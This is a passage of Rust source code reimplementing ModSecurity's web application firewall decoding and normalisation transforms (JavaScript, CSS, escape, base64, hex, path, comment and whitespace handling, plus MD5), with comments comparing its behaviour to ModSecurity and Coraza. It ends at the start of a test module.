                    j += 1;
                }
                if j > k {
                    let name = &input[k..j];
                    let decoded = [
                        (&b"quot"[..], b'"'),
                        (b"amp", b'&'),
                        (b"lt", b'<'),
                        (b"gt", b'>'),
                        (b"nbsp", 0xa0),
                    ]
                    .iter()
                    .find(|(entity, _)| name.eq_ignore_ascii_case(entity))
                    .map(|&(_, c)| c);
                    if let Some(c) = decoded {
                        out.push(c);
                        i = skip_semicolon(input, j);
                        changed = true;
                        continue;
                    }
                    copy = j - k + 1;
                }
            }
        }
        let end = (i + copy).min(n);
        out.extend_from_slice(&input[i..end]);
        i = end;
    }
    changed.then_some(out)
}

/// Reads the octal escape digits that start at `start` (the first one is
/// known to be an octal digit): at most three, as ModSecurity's loop does.
#[inline]
fn octal_run(input: &[u8], start: usize) -> usize {
    let mut j = 1;
    while j < 3 && is_odigit(at(input, start + j)) {
        j += 1;
    }
    j
}

/// Copies from `i` up to the next backslash, returns the new index.
#[inline]
fn copy_until_backslash(input: &[u8], i: usize, out: &mut Vec<u8>) -> usize {
    let rest = input.get(i..).unwrap_or_default();
    let len = memchr(b'\\', rest).unwrap_or(rest.len());
    out.extend_from_slice(&rest[..len]);
    i + len
}

/// `t:jsDecode`: `\uHHHH` (low byte, full-width ASCII folded), `\xHH`,
/// `\OOO` (at most one byte: a 3-digit escape starting above `3` uses only
/// two digits), `\a \b \f \n \r \t \v`, and `\C` → `C` for anything else.
/// A lone trailing backslash is kept.
fn js_decode(input: &[u8]) -> Option<Vec<u8>> {
    let first = memchr(b'\\', input)?;
    let n = input.len();
    let mut out = Vec::with_capacity(n);
    out.extend_from_slice(&input[..first]);
    let mut changed = false;
    let mut i = first;
    while i < n {
        if input[i] != b'\\' {
            i = copy_until_backslash(input, i, &mut out);
            continue;
        }
        let next = at(input, i + 1);
        if i + 5 < n && next == b'u' && input[i + 2..i + 6].iter().all(|&b| is_hex(b)) {
            out.push(full_width(
                x2c(input[i + 4], input[i + 5]),
                input[i + 2],
                input[i + 3],
            ));
            i += 6;
        } else if i + 3 < n && next == b'x' && is_hex(input[i + 2]) && is_hex(input[i + 3]) {
            out.push(x2c(input[i + 2], input[i + 3]));
            i += 4;
        } else if i + 1 < n && is_odigit(next) {
            let mut j = octal_run(input, i + 1);
            if j == 3 && next > b'3' {
                j = 2;
            }
            out.push(strtol_low_byte(&input[i + 1..i + 1 + j], 8));
            i += 1 + j;
        } else if i + 1 < n {
            out.push(match next {
                b'a' => 0x07,
                b'b' => 0x08,
                b'f' => 0x0c,
                b'n' => b'\n',
                b'r' => b'\r',
                b't' => b'\t',
                b'v' => 0x0b,
                c => c,
            });
            i += 2;
        } else {
            // Lone trailing backslash: kept.
            out.push(b'\\');
            i += 1;
            continue;
        }
        changed = true;
    }
    changed.then_some(out)
}

/// `t:cssDecode` (CSS 2 escapes): a backslash followed by 1-6 hex digits
/// decodes to one byte (the last two digits; full-width ASCII folded when
/// the escape is `ffXX`, `0ffXX` or `00ffXX`), and one whitespace after such
/// an escape is swallowed. Backslash-newline is removed, a backslash before
/// any other byte is dropped, a trailing backslash is dropped.
///
/// Coraza recently switched to emitting the code point as UTF-8; this keeps
/// ModSecurity's single-byte behaviour, which the CRS tests were written for.
fn css_decode(input: &[u8]) -> Option<Vec<u8>> {
    let first = memchr(b'\\', input)?;
    let n = input.len();
    let mut out = Vec::with_capacity(n);
    out.extend_from_slice(&input[..first]);
    let mut i = first;
    while i < n {
        if input[i] != b'\\' {
            i = copy_until_backslash(input, i, &mut out);
            continue;
        }
        if i + 1 >= n {
            // Backslash at the end: continuation to nothing, dropped.
            break;
        }
        i += 1; // skip the backslash
        let mut j = 0;
        while j < 6 && i + j < n && is_hex(input[i + j]) {
            j += 1;
        }
        if j > 0 {
            let d = &input[i..i + j];
            let last_two = || x2c(d[j - 2], d[j - 1]);
            let byte = match j {
                1 => xsingle2c(d[0]),
                2 | 3 => last_two(),
                4 => full_width(last_two(), d[1], d[0]),
                5 if d[0] == b'0' => full_width(last_two(), d[2], d[1]),
                6 if d[0] == b'0' && d[1] == b'0' => full_width(last_two(), d[3], d[2]),
                _ => last_two(),
            };
            out.push(byte);
            if i + j < n && is_space(input[i + j]) {
                j += 1;
            }
            i += j;
        } else if input[i] == b'\n' {
            i += 1;
        } else {
            out.push(input[i]);
            i += 1;
        }
    }
    // Every backslash seen was removed, so the output always differs.
    Some(out)
}

/// `t:escapeSeqDecode`: ANSI C escapes `\a \b \f \n \r \t \v \\ \? \' \"`,
/// `\xHH` / `\XHH`, and 1-3 octal digits (`\OOO`, value truncated to a
/// byte). For anything else, including an invalid `\x`, the backslash is
/// dropped and the next byte kept. A lone trailing backslash is kept.
fn escape_seq_decode(input: &[u8]) -> Option<Vec<u8>> {
    let first = memchr(b'\\', input)?;
    let n = input.len();
    let mut out = Vec::with_capacity(n);
    out.extend_from_slice(&input[..first]);
    let mut changed = false;
    let mut i = first;
    while i < n {
        if input[i] != b'\\' || i + 1 >= n {
            if input[i] == b'\\' {
                out.push(b'\\');
                i += 1;
            } else {
                i = copy_until_backslash(input, i, &mut out);
            }
            continue;
        }
        let next = input[i + 1];
        let simple = match next {
            b'a' => Some(0x07),
            b'b' => Some(0x08),
            b'f' => Some(0x0c),
            b'n' => Some(b'\n'),
            b'r' => Some(b'\r'),
            b't' => Some(b'\t'),
            b'v' => Some(0x0b),
            b'\\' | b'?' | b'\'' | b'"' => Some(next),
            _ => None,
        };
        if let Some(c) = simple {
            out.push(c);
            i += 2;
        } else if (next == b'x' || next == b'X')
            && i + 3 < n
            && is_hex(input[i + 2])
            && is_hex(input[i + 3])
        {
            out.push(x2c(input[i + 2], input[i + 3]));
            i += 4;
        } else if is_odigit(next) {
            let j = octal_run(input, i + 1);
            out.push(strtol_low_byte(&input[i + 1..i + 1 + j], 8));
            i += 1 + j;
        } else {
            out.push(next);
            i += 2;
        }
        changed = true;
    }
    changed.then_some(out)
}

// ---------------------------------------------------------------------------
// cmdLine, utf8toUnicode, normalizePath
// ---------------------------------------------------------------------------

/// `t:cmdLine`: deletes `\ " ' ^`, turns each run of `space , ; \t \r \n`
/// into one space, deletes a space before `/` or `(`, and lowercases ASCII.
///
/// v2 stopped at the first NUL byte; this follows v3 and processes the
/// whole value.
fn cmd_line(input: &[u8]) -> Option<Vec<u8>> {
    let trigger = |c: u8| {
        c.is_ascii_uppercase()
            || matches!(
                c,
                b'"' | b'\'' | b'\\' | b'^' | b' ' | b',' | b';' | b'\t' | b'\r' | b'\n'
            )
    };
    let first = input.iter().position(|&c| trigger(c))?;
    let mut out = Vec::with_capacity(input.len());
    out.extend_from_slice(&input[..first]);
    let mut space = false;
    for &c in &input[first..] {
        match c {
            b'"' | b'\'' | b'\\' | b'^' => {}
            b' ' | b',' | b';' | b'\t' | b'\r' | b'\n' => {
                if !space {
                    out.push(b' ');
                    space = true;
                }
            }
            b'/' | b'(' => {
                if space {
                    out.pop();
                }
                space = false;
                out.push(c);
            }
            _ => {
                out.push(c.to_ascii_lowercase());
                space = false;
            }
        }
    }
    changed(input, out)
}

/// Appends `%u` and the lowercase hex of `d`, zero-padded to 4 digits.
fn push_percent_u(out: &mut Vec<u8>, d: u32) {
    out.extend_from_slice(b"%u");
    let digits = ((32 - d.leading_zeros()).div_ceil(4)).max(4);
    for k in (0..digits).rev() {
        out.push(hex_digit((d >> (4 * k)) as u8));
    }
}

/// `t:utf8toUnicode`: every well-formed multi-byte UTF-8 sequence becomes
/// `%uHHHH` (lowercase hex, at least 4 digits).
///
/// Reproduces ModSecurity's handling of bad input: a lead byte (0xC0-0xF7)
/// without the right continuation bytes is dropped; stray continuation bytes
/// and 0xF8-0xFF are copied; lead bytes 0xF5-0xF7 are also copied before
/// their escape; surrogates and overlong forms are escaped and then followed
/// by their raw lead byte. v3: a NUL byte is dropped unless it is the last
/// byte of the value (v2 drops every NUL).
fn utf8_to_unicode(input: &[u8]) -> Option<Vec<u8>> {
    let n = input.len();
    let interesting = |(i, &b): (usize, &u8)| b >= 0x80 || (b == 0 && i + 1 < n);
    let first = input.iter().enumerate().position(interesting)?;
    let mut out = Vec::with_capacity(n + n / 2);
    out.extend_from_slice(&input[..first]);
    let cont = |k: usize| at(input, k) & 0xc0 == 0x80;
    let mut i = first;
    while i < n {
        let c = input[i];
        let mut d: u32 = 0;
        let mut seq_len = 0usize;
        if c & 0x80 == 0 {
            if !(c == 0 && i + 1 < n) {
                out.push(c);
            }
        } else if c & 0xe0 == 0xc0 {
            if n >= 2 && cont(i + 1) {
                seq_len = 2;
                d = u32::from(c & 0x1f) << 6 | u32::from(at(input, i + 1) & 0x3f);
                push_percent_u(&mut out, d);
            }
        } else if c & 0xf0 == 0xe0 {
            if n >= 3 && cont(i + 1) && cont(i + 2) {
                seq_len = 3;
                d = u32::from(c & 0x0f) << 12
                    | u32::from(at(input, i + 1) & 0x3f) << 6
                    | u32::from(at(input, i + 2) & 0x3f);
                push_percent_u(&mut out, d);
            }
        } else if c & 0xf8 == 0xf0 {
            if c >= 0xf5 {
                out.push(c);
            }
            if n >= 4 && cont(i + 1) && cont(i + 2) && cont(i + 3) {
                seq_len = 4;
                d = u32::from(c & 0x07) << 18
                    | u32::from(at(input, i + 1) & 0x3f) << 12
                    | u32::from(at(input, i + 2) & 0x3f) << 6
                    | u32::from(at(input, i + 3) & 0x3f);
                push_percent_u(&mut out, d);
            }
        } else {
            out.push(c);
        }
        if (0xd800..=0xdfff).contains(&d) {
            out.push(c);
        }
        let overlong = match seq_len {
            4 => d < 0x1_0000,
            3 => d < 0x800,
            2 => d < 0x80,
            _ => false,
        };
        if overlong {
            out.push(c);
        }
        i += seq_len.max(1);
    }
    changed(input, out)
}

/// `t:normalizePath` / `t:normalizePathWin`: collapses repeated slashes and
/// resolves `./` and `../` segments. A relative path keeps the `..` segments
/// that have nothing left to remove (`../../x`); an absolute path cannot go
/// above `/`. A trailing slash is kept only if the input had one. The Windows
/// variant first turns every backslash into a slash.
///
/// This is ModSecurity's algorithm (identical in v2 and v3) step by step,
/// not a generic path cleaner: Coraza's `filepath.Clean` differs on inputs
/// such as `/..` (ModSecurity gives an empty string).
fn normalize_path(input: &[u8], win: bool) -> Option<Vec<u8>> {
    if input.is_empty() {
        return None;
    }
    let quick = if win {
        memchr::memchr3(b'/', b'.', b'\\', input)
    } else {
        memchr2(b'/', b'.', input)
    };
    quick?;
    let mut buf = input.to_vec();
    if win {
        for b in buf.iter_mut().filter(|b| **b == b'\\') {
            *b = b'/';
        }
    }
    let end = buf.len() - 1;
    let relative = buf[0] != b'/';
    let trailing = buf[end] == b'/';
    let mut hitroot = false;
    let mut done = false;
    // `dst <= src` always holds, so the output is built in place in `buf`.
    let mut src = 0usize;
    let mut dst = 0usize;
    while !done && src <= end {
        let mut normalize = true;
        if src == end {
            done = true;
        } else if buf[src + 1] != b'/' {
            normalize = false; // not the end of a path segment
        }
        if normalize {
            if src != end && buf[src] == b'/' {
                // Empty segment: the copy below skips repeated slashes.
            } else if buf[src] == b'.' {
                if dst > 0 && buf[dst - 1] == b'.' {
                    // Back-reference.
                    if relative && (hitroot || dst <= 2) {
                        // Nothing to go back to in a relative path: keep "..".
                        hitroot = true;
                    } else {
                        // Remove the back-reference and the previous segment.
                        let mut d = dst as isize - 3;
                        while d > 0 && buf[d as usize] != b'/' {
                            d -= 1;
                        }
                        if d <= 0 {
                            // Do not go above the root.
                            hitroot = true;
                            d = 0;
                            if !relative && src == end {
                                d = 1; // keep the root slash
                            }
                        }
                        dst = d as usize;
                        if done {
                            continue;
                        }
                        src += 1;
                    }
                } else if dst == 0 {
                    // Relative self-reference: ignore.
                    if done {
                        continue;
                    }
                    src += 1;
                } else if buf[dst - 1] == b'/' {
                    // Self-reference: ignore.
                    if done {
                        continue;
                    }
                    dst -= 1;
                    src += 1;
                }
            } else if dst > 0 {
                // A regular path segment.
                hitroot = false;
            }
        }
        // Copy the byte, skipping to the last of several slashes.
        if buf[src] == b'/' {
            while src < end && buf[src + 1] == b'/' {
                src += 1;
            }
            // Do not copy a leading slash into a relative path.
            if relative && dst == 0 {
                src += 1;
                continue;
            }
        }
        buf[dst] = buf[src];
        dst += 1;
        src += 1;
    }
    if !trailing && dst > 0 && buf[dst - 1] == b'/' {
        dst -= 1;
    }
    buf.truncate(dst);
    changed(input, buf)
}

// ---------------------------------------------------------------------------
// NULs and comments
// ---------------------------------------------------------------------------

/// `t:removeNulls`.
fn remove_nulls(input: &[u8]) -> Option<Vec<u8>> {
    memchr(0, input)?;
    Some(input.iter().copied().filter(|&b| b != 0).collect())
}

/// `t:replaceNulls`: NUL → space.
fn replace_nulls(input: &[u8]) -> Option<Vec<u8>> {
    memchr(0, input)?;
    Some(
        input
            .iter()
            .map(|&b| if b == 0 { b' ' } else { b })
            .collect(),
    )
}

/// `t:replaceComments`: each `/* ... */` becomes one space; an unterminated
/// comment runs to the end and also becomes one space. A lone `*/` is kept.
fn replace_comments(input: &[u8]) -> Option<Vec<u8>> {
    let first = memmem::find(input, b"/*")?;
    let n = input.len();
    let mut out = Vec::with_capacity(n);
    out.extend_from_slice(&input[..first]);
    let mut i = first;
    loop {
        // `i` is at the "/*" that opens a comment.
        match memmem::find(&input[i + 2..], b"*/") {
            Some(p) => {
                out.push(b' ');
                i += 2 + p + 2;
            }
            None => {
                out.push(b' ');
                break;
            }
        }
        match memmem::find(&input[i..], b"/*") {
            Some(p) => {
                out.extend_from_slice(&input[i..i + p]);
                i += p;
            }
            None => {
                out.extend_from_slice(&input[i..]);
                break;
            }
        }
    }
    Some(out)
}

/// `t:removeComments`: removes `/* ... */` and `<!-- ... -->` comments and
/// truncates the value at `--` or `#` (outside a comment). An unterminated
/// comment becomes one space.
///
/// Reproduces a quirk shared by v2, v3 and Coraza (and pinned by their test
/// vectors): the byte right after a comment's end marker is copied without
/// being examined, and when the marker ends the value that byte is the C
/// string terminator, so `/* x */` → `"\0"`.
fn remove_comments(input: &[u8]) -> Option<Vec<u8>> {
    if memchr(b'#', input).is_none()
        && memmem::find(input, b"/*").is_none()
        && memmem::find(input, b"--").is_none()
    {
        return None;
    }
    let n = input.len();
    let mut out = Vec::with_capacity(n);
    let mut incomment = false;
    let mut i = 0;
    while i < n {
        let c = input[i];
        if !incomment {
            if c == b'/' && at(input, i + 1) == b'*' {
                incomment = true;
                i += 2;
            } else if c == b'<' && input.get(i + 1..i + 4) == Some(b"!--") {
                incomment = true;
                i += 4;
            } else if (c == b'-' && at(input, i + 1) == b'-') || c == b'#' {
                break;
            } else {
                out.push(c);
                i += 1;
            }
        } else if c == b'*' && at(input, i + 1) == b'/' {
            incomment = false;
            out.push(at(input, i + 2));
            i += 3;
        } else if c == b'-' && input.get(i + 1..i + 3) == Some(b"->") {
            incomment = false;
            out.push(at(input, i + 3));
            i += 4;
        } else {
            i += 1;
        }
    }
    if incomment {
        out.push(b' ');
    }
    changed(input, out)
}

/// `t:removeCommentsChar`: deletes the comment markers `/*`, `*/`, `<!--`,
/// `-->`, `--` and `#`, keeping the text between them.
fn remove_comments_char(input: &[u8]) -> Option<Vec<u8>> {
    if memchr(b'#', input).is_none()
        && memmem::find(input, b"/*").is_none()
        && memmem::find(input, b"*/").is_none()
        && memmem::find(input, b"--").is_none()
    {
        return None;
    }
    let n = input.len();
    let mut out = Vec::with_capacity(n);
    let mut i = 0;
    while i < n {
        let c = input[i];
        let next = at(input, i + 1);
        let skip = match c {
            b'/' if next == b'*' => 2,
            b'*' if next == b'/' => 2,
            b'<' if input.get(i + 1..i + 4) == Some(b"!--") => 4,
            b'-' if next == b'-' && at(input, i + 2) == b'>' => 3,
            b'-' if next == b'-' => 2,
            b'#' => 1,
            _ => 0,
        };
        if skip == 0 {
            out.push(c);
            i += 1;
        } else {
            i += skip;
        }
    }
    changed(input, out)
}

// ---------------------------------------------------------------------------
// Base64 and hex
// ---------------------------------------------------------------------------

/// Value of a character of the standard base64 alphabet.
#[inline]
fn b64_val(c: u8) -> Option<u8> {
    match c {
        b'A'..=b'Z' => Some(c - b'A'),
        b'a'..=b'z' => Some(c - b'a' + 26),
        b'0'..=b'9' => Some(c - b'0' + 52),
        b'+' => Some(62),
        b'/' => Some(63),
        _ => None,
    }
}

/// Accumulates base64 sextets into bytes; a trailing partial group yields
/// the bytes its bits complete (`QQ` → `A`), a single sextet yields nothing.
#[derive(Default)]
struct B64Acc {
    out: Vec<u8>,
    pending: u8,
    count: usize,
}

impl B64Acc {
    #[inline]
    fn push(&mut self, v: u8) {
        match self.count % 4 {
            0 => self.pending = v << 2,
            1 => {
                self.out.push(self.pending | v >> 4);
                self.pending = (v & 0x0f) << 4;
            }
            2 => {
                self.out.push(self.pending | v >> 2);
                self.pending = (v & 0x03) << 6;
            }
            _ => self.out.push(self.pending | v),
        }
        self.count += 1;
    }
}

/// `t:base64Decode`: decodes until the first byte outside the base64
/// alphabet (padding included) and returns what was decoded so far; CR and
/// LF are skipped.
///
/// v3 (mbedTLS) returns an empty string for any input that is not strictly
/// valid base64 and v2 (APR) stops at the first invalid byte; this follows
/// v2 and Coraza ("decode what you can"), which never hides a payload behind
/// one stray character.
fn base64_decode(input: &[u8]) -> Option<Vec<u8>> {
    if input.is_empty() {
        return None;
    }
    let mut acc = B64Acc {
        out: Vec::with_capacity(input.len() / 4 * 3 + 3),
        ..B64Acc::default()
    };
    for &c in input {
        if c == b'\r' || c == b'\n' {
            continue;
        }
        match b64_val(c) {
            Some(v) => acc.push(v),
            None => break,
        }
    }
    changed(input, acc.out)
}

/// `t:base64DecodeExt`: forgiving decoder (ModSecurity's
/// `decode_forgiven`): bytes outside the alphabet, whitespace and `=` are
/// skipped, except that a `=` arriving right after the first sextet of a
/// group, and not followed by another `=`, makes the whole result empty.
///
/// Deviation: ModSecurity compares an already-translated sextet against
/// '=' after the loop, so a value ending in `9` right after a complete group
/// (e.g. `QUJD9`) decodes to nothing there; that bug is not reproduced.
fn base64_decode_ext(input: &[u8]) -> Option<Vec<u8>> {
    if input.is_empty() {
        return None;
    }
    let mut acc = B64Acc {
        out: Vec::with_capacity(input.len() / 4 * 3 + 3),
        ..B64Acc::default()
    };
    for (idx, &c) in input.iter().enumerate() {
        if c == b'=' {
            if input.get(idx + 1) != Some(&b'=') && acc.count % 4 == 1 {
                return changed(input, Vec::new());
            }
            continue;
        }
        if let Some(v) = b64_val(c) {
            acc.push(v);
        }
    }
    changed(input, acc.out)
}

/// `t:base64Encode` (standard alphabet, padded).
fn base64_encode(input: &[u8]) -> Option<Vec<u8>> {
    use base64::Engine as _;
    if input.is_empty() {
        return None;
    }
    Some(
        base64::engine::general_purpose::STANDARD
            .encode(input)
            .into_bytes(),
    )
}

/// `t:hexDecode`: every pair of bytes becomes one byte; a trailing odd byte
/// is dropped. As in ModSecurity (v2 and v3) pairs are not validated, so a
/// non-hex digit yields an arbitrary (but deterministic) byte: `0z` → `#`.
/// Coraza returns an empty string for invalid input instead.
fn hex_decode(input: &[u8]) -> Option<Vec<u8>> {
    if input.is_empty() {
        return None;
    }
    let out = input
        .chunks_exact(2)
        .map(|pair| x2c(pair[0], pair[1]))
        .collect();
    changed(input, out)
}

/// `t:hexEncode`: lowercase hex.
fn hex_encode(input: &[u8]) -> Option<Vec<u8>> {
    if input.is_empty() {
        return None;
    }
    let mut out = Vec::with_capacity(input.len() * 2);
    for &b in input {
        out.push(hex_digit(b >> 4));
        out.push(hex_digit(b));
    }
    Some(out)
}

/// `t:sqlHexDecode`: each `0x` followed by at least one pair of hex digits
/// is replaced by the decoded pairs (`0x414243` → `ABC`); an odd trailing
/// digit is kept. Everything else is copied.
fn sql_hex_decode(input: &[u8]) -> Option<Vec<u8>> {
    let n = input.len();
    let starts_hex = |i: usize| {
        i + 3 < n
            && input[i] == b'0'
            && (input[i + 1] == b'x' || input[i + 1] == b'X')
            && is_hex(input[i + 2])
            && is_hex(input[i + 3])
    };
    let first = memchr::memchr_iter(b'0', input).find(|&i| starts_hex(i))?;
    let mut out = Vec::with_capacity(n);
    out.extend_from_slice(&input[..first]);
    let mut i = first;
    while i < n {
        if starts_hex(i) {
            i += 2;
            while i + 1 < n && is_hex(input[i]) && is_hex(input[i + 1]) {
                out.push(x2c(input[i], input[i + 1]));
                i += 2;
            }
        } else {
            out.push(input[i]);
            i += 1;
        }
    }
    Some(out)
}

/// `t:length`: decimal byte length.
fn length(input: &[u8]) -> Option<Vec<u8>> {
    changed(input, input.len().to_string().into_bytes())
}

// ---------------------------------------------------------------------------
// Whitespace and trimming
// ---------------------------------------------------------------------------

/// Classifies the character at `i`: returns its length in bytes and whether
/// it is whitespace. Whitespace is C `isspace()`, U+00A0 (NBSP) and U+0085
/// (NEL) encoded as UTF-8, and a raw 0xA0 byte (Latin-1 NBSP) that is not
/// part of a well-formed UTF-8 character.
#[inline]
pub(crate) fn ws_class(input: &[u8], i: usize) -> (usize, bool) {
    let b = input[i];
    if b < 0x80 {
        return (1, is_space(b));
    }
    if b == 0xa0 {
        // Never the first byte of a UTF-8 character.
        return (1, true);
    }
    if b == 0xc2 && matches!(at(input, i + 1), 0xa0 | 0x85) {
        return (2, true);
    }
    let len = match b {
        0xc2..=0xdf => 2,
        0xe0..=0xef => 3,
        0xf0..=0xf4 => 4,
        _ => return (1, false),
    };
    match input.get(i..i + len) {
        Some(seq) if std::str::from_utf8(seq).is_ok() => (len, false),
        _ => (1, false),
    }
}

/// Where the run of ASCII bytes that are not whitespace starting at `i` ends.
#[inline]
fn plain_run_end(input: &[u8], i: usize) -> usize {
    input[i..]
        .iter()
        .position(|&b| b >= 0x80 || is_space(b))
        .map_or(input.len(), |p| i + p)
}

/// `t:compressWhitespace`: each run of whitespace becomes one space.
///
/// v3 only knows ASCII `isspace()`; v2 also treats every 0xA0 byte as
/// whitespace, which corrupts UTF-8 characters whose last byte is 0xA0
/// (`à` = C3 A0). This follows Coraza: ASCII whitespace, UTF-8 NBSP and NEL,
/// and a Latin-1 NBSP byte outside any UTF-8 character.
fn compress_whitespace(input: &[u8]) -> Option<Vec<u8>> {
    let suspicious = input
        .iter()
        .any(|&b| matches!(b, b'\t' | b'\n' | 0x0b | 0x0c | b'\r' | 0x85 | 0xa0));
    if !suspicious && memmem::find(input, b"  ").is_none() {
        return None;
    }
    let n = input.len();
    let mut out = Vec::with_capacity(n);
    let mut in_ws = false;
    let mut i = 0;
    while i < n {
        // Runs of ASCII that is not whitespace are copied whole.
        let end = plain_run_end(input, i);
        if end > i {
            out.extend_from_slice(&input[i..end]);
            in_ws = false;
            i = end;
            continue;
        }
        let (len, ws) = ws_class(input, i);
        if ws {
            if !in_ws {
                out.push(b' ');
                in_ws = true;
            }
        } else {
            out.extend_from_slice(&input[i..i + len]);
            in_ws = false;
        }
        i += len;
    }
    changed(input, out)
}

/// `t:removeWhitespace`: removes all whitespace (same definition as
/// compressWhitespace).
///
/// v3 removes ASCII whitespace plus every 0xA0 and 0xC2 byte, mangling
/// UTF-8 text (`©` = C2 A9 loses its lead byte); v2 removes ASCII whitespace
/// and 0xA0 bytes. This removes UTF-8 NBSP/NEL and stray 0xA0 bytes only.
fn remove_whitespace(input: &[u8]) -> Option<Vec<u8>> {
    let suspicious = input.iter().any(|&b| is_space(b) || b == 0x85 || b == 0xa0);
    if !suspicious {
        return None;
    }
    let n = input.len();
    let mut out = Vec::with_capacity(n);
    let mut i = 0;
    while i < n {
        // Runs of ASCII that is not whitespace are copied whole.
        let end = plain_run_end(input, i);
        if end > i {
            out.extend_from_slice(&input[i..end]);
            i = end;
            continue;
        }
        let (len, ws) = ws_class(input, i);
        if !ws {
            out.extend_from_slice(&input[i..i + len]);
        }
        i += len;
    }
    changed(input, out)
}

/// `t:trim`, `t:trimLeft`, `t:trimRight`: C `isspace()` only.
fn trim(input: &[u8], left: bool, right: bool) -> Option<Vec<u8>> {
    let mut start = 0;
    let mut end = input.len();
    if left {
        start = input.iter().position(|&b| !is_space(b)).unwrap_or(end);
    }
    if right {
        end = input[start..]
            .iter()
            .rposition(|&b| !is_space(b))
            .map_or(start, |p| start + p + 1);
    }
    if start == 0 && end == input.len() {
        None
    } else {
        Some(input[start..end].to_vec())
    }
}

// ---------------------------------------------------------------------------
// Parity
// ---------------------------------------------------------------------------

#[derive(Clone, Copy)]
enum Parity {
    Even,
    Odd,
    Zero,
}

/// `t:parityEven7bit` / `t:parityOdd7bit` / `t:parityZero7bit`. As in
/// ModSecurity, the parity is computed over all 8 bits of the byte and then
/// bit 7 is set or cleared.
fn parity(input: &[u8], kind: Parity) -> Option<Vec<u8>> {
    let out: Vec<u8> = input
        .iter()
        .map(|&x| {
            let odd = x.count_ones() % 2 == 1;
            let set_high = match kind {
                Parity::Even => odd,
                Parity::Odd => !odd,
                Parity::Zero => false,
            };
            if set_high {
                x | 0x80
            } else {
                x & 0x7f
            }
        })
        .collect();
    changed(input, out)
}

// ---------------------------------------------------------------------------
// MD5 (RFC 1321); the crate's allowed dependencies have no MD5.
// ---------------------------------------------------------------------------

const MD5_K: [u32; 64] = [
    0xd76aa478, 0xe8c7b756, 0x242070db, 0xc1bdceee, 0xf57c0faf, 0x4787c62a, 0xa8304613, 0xfd469501,
    0x698098d8, 0x8b44f7af, 0xffff5bb1, 0x895cd7be, 0x6b901122, 0xfd987193, 0xa679438e, 0x49b40821,
    0xf61e2562, 0xc040b340, 0x265e5a51, 0xe9b6c7aa, 0xd62f105d, 0x02441453, 0xd8a1e681, 0xe7d3fbc8,
    0x21e1cde6, 0xc33707d6, 0xf4d50d87, 0x455a14ed, 0xa9e3e905, 0xfcefa3f8, 0x676f02d9, 0x8d2a4c8a,
    0xfffa3942, 0x8771f681, 0x6d9d6122, 0xfde5380c, 0xa4beea44, 0x4bdecfa9, 0xf6bb4b60, 0xbebfbc70,
    0x289b7ec6, 0xeaa127fa, 0xd4ef3085, 0x04881d05, 0xd9d4d039, 0xe6db99e5, 0x1fa27cf8, 0xc4ac5665,
    0xf4292244, 0x432aff97, 0xab9423a7, 0xfc93a039, 0x655b59c3, 0x8f0ccc92, 0xffeff47d, 0x85845dd1,
    0x6fa87e4f, 0xfe2ce6e0, 0xa3014314, 0x4e0811a1, 0xf7537e82, 0xbd3af235, 0x2ad7d2bb, 0xeb86d391,
];

const MD5_S: [u32; 16] = [7, 12, 17, 22, 5, 9, 14, 20, 4, 11, 16, 23, 6, 10, 15, 21];

fn md5_block(state: &mut [u32; 4], block: &[u8]) {
    let mut m = [0u32; 16];
    for (w, chunk) in m.iter_mut().zip(block.chunks_exact(4)) {
        *w = u32::from_le_bytes([chunk[0], chunk[1], chunk[2], chunk[3]]);
    }
    let [mut a, mut b, mut c, mut d] = *state;
    for i in 0..64 {
        let (f, g) = match i / 16 {
            0 => ((b & c) | (!b & d), i),
            1 => ((d & b) | (!d & c), (5 * i + 1) % 16),
            2 => (b ^ c ^ d, (3 * i + 5) % 16),
            _ => (c ^ (b | !d), (7 * i) % 16),
        };
        let rotated = a
            .wrapping_add(f)
            .wrapping_add(MD5_K[i])
            .wrapping_add(m[g])
            .rotate_left(MD5_S[(i / 16) * 4 + i % 4]);
        a = d;
        d = c;
        c = b;
        b = b.wrapping_add(rotated);
    }
    state[0] = state[0].wrapping_add(a);
    state[1] = state[1].wrapping_add(b);
    state[2] = state[2].wrapping_add(c);
    state[3] = state[3].wrapping_add(d);
}

/// Raw 16-byte MD5 digest.
fn md5(input: &[u8]) -> [u8; 16] {
    let mut state: [u32; 4] = [0x67452301, 0xefcdab89, 0x98badcfe, 0x10325476];
    let mut blocks = input.chunks_exact(64);
    for block in &mut blocks {
        md5_block(&mut state, block);
    }
    let rest = blocks.remainder();
    let mut tail = [0u8; 128];
    tail[..rest.len()].copy_from_slice(rest);
    tail[rest.len()] = 0x80;
    let tail_len = if rest.len() < 56 { 64 } else { 128 };
    let bit_len = (input.len() as u64).wrapping_mul(8);
    tail[tail_len - 8..tail_len].copy_from_slice(&bit_len.to_le_bytes());
    for block in tail[..tail_len].chunks_exact(64) {
        md5_block(&mut state, block);
    }
    let mut digest = [0u8; 16];
    for (out, word) in digest.chunks_exact_mut(4).zip(state) {
        out.copy_from_slice(&word.to_le_bytes());
    }
    digest
}

#[cfg(test)]
mod tests {
    #[test]
    fn trigger_masks_are_sound() {
        // A value without any trigger byte must come back unchanged.
        let mut seed = 0x2545_f491_4f6c_dd1du64;
        let mut next = || {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            seed
        };
        for &(_, t) in NAMES {
            let mask = t.trigger_mask();
            if mask == flags::ALWAYS {
                continue;
            }
            let allowed: Vec<u8> = (0..=255u8)
                .filter(|&b| BYTE_CLASS[b as usize] & mask == 0)
                .collect();
            for _ in 0..300 {
                let len = (next() % 24) as usize;
                let v: Vec<u8> = (0..len)
                    .map(|_| allowed[(next() % allowed.len() as u64) as usize])
                    .collect();
                assert_eq!(
                    t.apply(&v),
                    None,
                    "{} changed {:?}",
                    t.name(),
                    String::from_utf8_lossy(&v)
                );
            }
        }
    }

    use super::*;

    /// Output of `t` (the input itself when `apply` says "unchanged"), also
    /// checking the `None` ⇔ unchanged contract.
    fn run(t: Transform, input: &[u8]) -> Vec<u8> {
        match t.apply(input) {
            Some(v) => {
                assert_ne!(v, input, "{}: Some(..) equal to the input", t.name());
                v
            }
            None => input.to_vec(),
        }
    }

    fn check(t: Transform, input: &[u8], expected: &[u8]) {
        let got = run(t, input);
        assert_eq!(
            got,
            expected,
            "t:{} on {:?}: got {:?}, want {:?}",
            t.name(),
            String::from_utf8_lossy(input),
            String::from_utf8_lossy(&got),
            String::from_utf8_lossy(expected)
        );
    }

    macro_rules! vectors {
        ($t:expr; $($i:expr => $o:expr),* $(,)?) => {
            $( check($t, $i, $o); )*
        };
    }

    fn all_bytes() -> Vec<u8> {
